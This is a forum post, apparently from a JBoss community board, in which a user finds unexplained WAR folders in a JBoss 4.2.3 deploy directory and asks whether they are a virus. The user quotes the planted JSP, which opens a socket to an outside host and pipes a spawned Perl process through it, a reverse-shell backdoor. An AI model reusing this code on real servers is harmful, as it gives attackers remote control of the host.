13 Replies Latest reply on Oct 21, 2011 5:15 AM by wus81



      Recently I found some random war folders were created in my JBoss 4.2.3 deploy folder, like the attached snapshot.

      Inside those war folders, I can find a jsp file, also with random name as well. the content is like the following: (also attached 2 samples)


      Socket socket = new Socket("some.u.rl",443);

      Process process = Runtime.getRuntime().exec("perl .ICE-unix");

      (new StreamConnector(process.getInputStream(), socket.getOutputStream())).stop();

      (new StreamConnector(socket.getInputStream(), process.getOutputStream())).start();



      Anyone knows this? Is it a virus???If it is, I use Avast, but it can't find thevirus...


      Please help!